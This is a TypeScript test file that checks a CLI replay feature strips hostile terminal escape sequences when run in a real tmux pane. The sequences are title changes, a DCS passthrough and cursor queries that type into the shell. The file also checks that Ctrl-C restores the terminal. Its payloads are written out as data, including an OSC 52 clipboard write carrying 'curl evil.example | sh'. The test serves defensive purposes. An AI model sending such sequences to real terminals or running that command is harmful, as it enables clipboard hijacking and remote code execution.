/**
 * A replay re-emits a recording's bytes to a person's terminal: the program's
 * own drawing, never what acts beyond the screen. Here a real terminal (a tmux
 * pane of the test's own, with set-clipboard on so that OSC 52 would create a
 * paste buffer, and pane_title recording OSC 0/2) replays a task that tried to
 * retitle the terminal, write its clipboard, pass a DCS through and make the
 * terminal type a cursor report into the shell. Afterwards the title is the
 * one it was, no buffer exists and nothing was typed; the text is shown. And
 * Ctrl-C in the middle of a replay that switched to the alternate screen and
 * hid the cursor gives back the main screen, the cursor and the tty's modes.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TaskResult } from "../../core/index.js";
import { CLI, startTestSwarm, type TestSwarm } from "../helpers/swarm.js";
import { TestTerminal } from "../tui/terminal.js";
import { printBytesTask } from "./terminal-support.js";

const ESC = "\x1b";
const BEL = "\x07";
const CLIPBOARD = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${BEL}`;
const TITLE = `${ESC}${ESC}[m]0;pwned-title${BEL}${ESC}]2;pwned-title${ESC}\\`;
const DCS = `${ESC}Ptmux;${ESC}${ESC}]2;pwned-through${BEL}${ESC}\\`;
/** Device status report: a terminal answers it by typing `ESC [ row ; col R` into its input, i.e. into the shell. */
const QUERY = `${ESC}[6n${ESC}[c`;

describe("replay in a real terminal", { timeout: 240_000 }, () => {
  let swarm: TestSwarm;
  let term: TestTerminal;
  let title: string;
  beforeAll(async () => {
    swarm = await startTestSwarm();
    term = TestTerminal.start({ width: 160, height: 48 });
    term.tmux(["set", "-g", "set-clipboard", "on"]);
    title = term.info("#{pane_title}");
  }, 120_000);
  afterAll(async () => {
    term?.close();
    await swarm?.destroy();
  });

  const run = (task: string): TaskResult => JSON.parse(swarm.cli(["submit", "--agent", "alpha", "--wait", "--json", "--task", task]).stdout) as TaskResult;
  const replay = (args: string) => `node ${CLI} --home ${swarm.home} replay ${args}`;
  const buffers = () => term.tmux(["list-buffers", "-F", "#{buffer_name}: #{buffer_sample}"]).trim();

  it("shows the task's text but never its title changes, clipboard writes, DCS or queries", async () => {
    const hostile = Buffer.from(`before-mark${TITLE}${CLIPBOARD}${DCS}${QUERY}after-mark`, "utf8");
    const result = run(printBytesTask(hostile, 0));
    expect(result.status).toBe("completed");
    expect(result.output).toContain("before-mark");

    // Whatever the terminal would type in answer to a query is read back right after the replay (read keeps partial input on its timeout).
    term.run(`clear; ${replay(`${result.id} --speed 20`)}; read -t 1 -r typed; echo "DONE-MARK typed[$typed]"`);
    const screen = await term.waitFor(/^DONE-MARK typed\[.*\]\s*$/m, { what: "the replay to end", timeoutMs: 60_000 });
    // The task's line as its pane showed it: the stray ESC's CSI swallowed the ESC, `]0;pwned-title` is left as text.
    // (The agent's own pane answered the queries when the task ran: bash echoed that answer as text, ^[[6;26R, which may follow.)
    expect(screen).toMatch(/^before-mark\]0;pwned-titleafter-mark/m);
    expect(screen).toMatch(/^DONE-MARK typed\[\]\s*$/m);
    expect(term.info("#{pane_title}")).toBe(title);
    expect(buffers()).toBe("");

    // Piped, the same: the bytes of the replay hold no OSC, DCS or query.
    const piped = swarm.cli(["replay", result.id, "--speed", "50"]);
    expect(piped.exitCode).toBe(0);
    expect(piped.stdout.replace(/\x1b\[m/g, "")).toContain("before-mark]0;pwned-titleafter-mark");
    for (const bad of ["\x1b]", "\x1bP", "\x1b[6n", "\x1b[c", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"]) expect(piped.stdout).not.toContain(bad);
  });

  it("stops at Ctrl-C and gives the terminal back as it was: main screen, cursor shown, tty modes", async () => {
    const result = run(
      `printf '\\033[?1049h\\033[?25l\\033[2J\\033[Hfull-screen-%s\\n' $((6*7)); for i in $(seq 1 40); do echo tick-$i; sleep 0.1; done; printf '\\033[?25h\\033[?1049l'`,
    );
    expect(result.status).toBe("completed");
    term.run("clear; stty -g > /tmp/replay-stty-$$; echo READY-MARK");
    await term.waitFor(/^READY-MARK\s*$/m);
    term.run(`${replay(`${result.id} --speed 0.25`)}; echo "STOPPED-MARK $(stty -g | cmp -s - /tmp/replay-stty-$$ && echo same-tty)"`);
    await term.waitFor(/full-screen-42/, { what: "the replay to reach the alternate screen", timeoutMs: 60_000 });
    expect(term.info("#{alternate_on}")).toBe("1");
    term.keys("C-c");
    const screen = await term.waitFor(/^STOPPED-MARK same-tty\s*$/m, { what: "the replay to stop and the shell to come back", timeoutMs: 20_000 });
    expect(screen).toMatch(/replay stopped at \d+\.\d s of \d+\.\d s/);
    expect(term.info("#{alternate_on}")).toBe("0");
    expect(term.info("#{cursor_flag}")).toBe("1");
  });
});
